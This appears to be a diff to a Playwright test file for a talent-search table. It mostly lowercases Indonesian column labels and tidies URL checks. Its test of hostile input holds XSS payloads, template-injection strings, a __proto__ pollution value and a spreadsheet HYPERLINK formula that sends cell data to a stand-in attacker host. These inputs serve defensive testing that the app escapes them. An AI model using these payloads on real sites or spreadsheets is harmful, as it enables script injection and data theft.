@@ -22,16 +22,16 @@ const nextPage = (page: Page): Locator => page.getByRole('button', { name: 'Hala
 const announced = (page: Page): Locator => page.getByRole('status').filter({ hasText: /halaman|tidak ditemukan/ })
 
 const AYU = {
-  'Nama Depan': 'Ayu',
-  'Nama Belakang': 'Wulandari',
-  'Tanggal Lahir': '21/04/1999',
-  'Jenis Kelamin': 'Wanita',
+  'Nama depan': 'Ayu',
+  'Nama belakang': 'Wulandari',
+  'Tanggal lahir': '21/04/1999',
+  'Jenis kelamin': 'Wanita',
   Provinsi: 'Jawa Barat',
-  'Pendidikan Terakhir': 'S1',
-  'Institusi Pendidikan': 'Institut Teknologi Bandung',
+  'Pendidikan terakhir': 'S1',
+  'Institusi pendidikan': 'Institut Teknologi Bandung',
   Jurusan: 'Teknik Informatika',
-  'Perusahaan Terakhir': 'PT Sinar Digital Nusantara',
-  'Posisi Terakhir': 'Backend Engineer',
+  'Perusahaan terakhir': 'PT Sinar Digital Nusantara',
+  'Posisi terakhir': 'Backend Engineer',
   Kepribadian: 'Conscientiousness Openness',
   Nilai: 'Achievement',
   Minat: 'Investigative Social',
@@ -44,12 +44,12 @@ const AYU = {
   Creativity: 'Medium',
   'Purpose in Life': 'High',
   Klobness: 'High',
-  'Kode Referal': 'NUSANTARA24',
+  'Kode referal': 'NUSANTARA24',
   Aksi: '',
 }
 /** A row as a record, with the blanks between tags made one; the last column comes when the codes of the corporate do. */
 async function record(page: Page, name: string): Promise<Record<string, string>> {
-  await expect(page.getByRole('columnheader', { name: 'Kode Referal' })).toBeAttached()
+  await expect(page.getByRole('columnheader', { name: 'Kode referal' })).toBeAttached()
   const entries = Object.entries(await rowOf(page, name))
   return Object.fromEntries(entries.map(([header, text]) => [header, text.replace(/\s+/g, ' ').trim()]))
 }
@@ -59,10 +59,10 @@ test('every column of the document, in its order, in words', async ({ page }) =>
   const ayu = await record(page, 'Ayu')
   expect(ayu).toEqual(AYU)
   expect(Object.keys(ayu)).toEqual(Object.keys(AYU))
-  expect(await record(page, 'Bayu')).toMatchObject({ 'Jenis Kelamin': 'Pria', Klobness: 'Medium' })
-  expect(await record(page, 'Citra')).toMatchObject({ 'Jenis Kelamin': 'Wanita', Klobness: 'Low' })
+  expect(await record(page, 'Bayu')).toMatchObject({ 'Jenis kelamin': 'Pria', Klobness: 'Medium' })
+  expect(await record(page, 'Citra')).toMatchObject({ 'Jenis kelamin': 'Wanita', Klobness: 'Low' })
 
-  const { 'Nama Depan': _first, 'Nama Belakang': _last, Aksi: _action, ...unknown } = await record(page, 'Dian')
+  const { 'Nama depan': _first, 'Nama belakang': _last, Aksi: _action, ...unknown } = await record(page, 'Dian')
   expect(new Set(Object.values(unknown))).toEqual(new Set(['-']))
 })
 
@@ -84,16 +84,16 @@ test('a hostile person is text everywhere', async ({ page, baseURL }) => {
   await expect(rows(page)).toHaveCount(1)
   const row = await record(page, 'Jahat')
   expect(row).toMatchObject({
-    'Nama Depan': 'Jahat <img src=x onerror="alert(1)">',
-    'Nama Belakang': '<script>alert("jahat")</script>',
-    'Pendidikan Terakhir': '=HYPERLINK("https://jahat.example/?d="&A1,"Klik")',
-    'Institusi Pendidikan': 'W'.repeat(300),
+    'Nama depan': 'Jahat <img src=x onerror="alert(1)">',
+    'Nama belakang': '<script>alert("jahat")</script>',
+    'Pendidikan terakhir': '=HYPERLINK("https://jahat.example/?d="&A1,"Klik")',
+    'Institusi pendidikan': 'W'.repeat(300),
     Jurusan: '<b><i><a href="https://jahat.example/?',
-    'Perusahaan Terakhir': '"><svg onload=alert(2)>',
-    'Posisi Terakhir': '{{position}} ${7*7} <%= 7*7 %>',
+    'Perusahaan terakhir': '"><svg onload=alert(2)>',
+    'Posisi terakhir': '{{position}} ${7*7} <%= 7*7 %>',
     Curiosity: 'javascript:alert(3)',
     Humility: 'data:text/html,%3Cscript%3Ealert(5)%3C/script%3E',
-    'Kode Referal': '<script>alert("jahat")</script>',
+    'Kode referal': '<script>alert("jahat")</script>',
   })
   const name = 'Jahat <img src=x onerror="alert(1)"> <script>alert("jahat")</script>'
   await expect(page.getByRole('button', { name: `Lihat profil ${name}`, exact: true })).toBeAttached()
@@ -120,7 +120,7 @@ test.describe('waiting', () => {
     await expect(table(page)).toHaveAttribute('aria-busy', 'true')
     await expect(table(page).locator('tbody')).toHaveAttribute('aria-hidden', 'true')
     // A column that depends on an answer of its own.
-    await expect(table(page).getByRole('columnheader', { name: 'Kode Referal' })).toBeAttached()
+    await expect(table(page).getByRole('columnheader', { name: 'Kode referal' })).toBeAttached()
     const waiting = await table(page).boundingBox()
     release()
     await settled(page)
@@ -238,7 +238,10 @@ test.describe('columns', () => {
 
   test('that were remembered wrongly are all shown', async ({ page }) => {
     await page.addInitScript(() => {
-      localStorage.setItem('klob:columns:USR-BUDI:searchTalents', '{"sex":"no","gone":false,"__proto__":{"sex":false}')
+      localStorage.setItem(
+        'klob:look:columns:USR-BUDI:searchTalents',
+        '{"sex":"no","gone":false,"__proto__":{"sex":false}',
+      )
     })
     await openTalents(page, '?gender=F')
     await expect(page.getByRole('columnheader')).toHaveCount(24)
@@ -281,8 +284,7 @@ test.describe('profile', () => {
     const opened = context.waitForEvent('page')
     await view(page)
     const tab = await opened
-    await tab.waitForLoadState()
-    expect(new URL(tab.url()).pathname).toBe('/situs/profile/USR-AYU')
+    await expect(tab).toHaveURL(/\/situs\/profile\/USR-AYU$/)
     expect(await tab.evaluate(() => [window.opener, document.referrer])).toEqual([null, ''])
     const log = 'logTalentProfileView'
     await expect.poll(async () => (await world.calls(log)).map(({ status }) => status)).toEqual([200])
@@ -315,8 +317,7 @@ test.describe('profile', () => {
         .first()
         .click(press as { button?: 'middle' })
       const tab = await opened
-      await tab.waitForLoadState()
-      expect(new URL(tab.url()).pathname).toBe('/situs/profile/USR-AYU')
+      await expect(tab).toHaveURL(/\/situs\/profile\/USR-AYU$/)
       await expect.poll(async () => (await world.calls('logTalentProfileView')).length).toBe(1)
       expect(context.pages()).toHaveLength(2)
     })
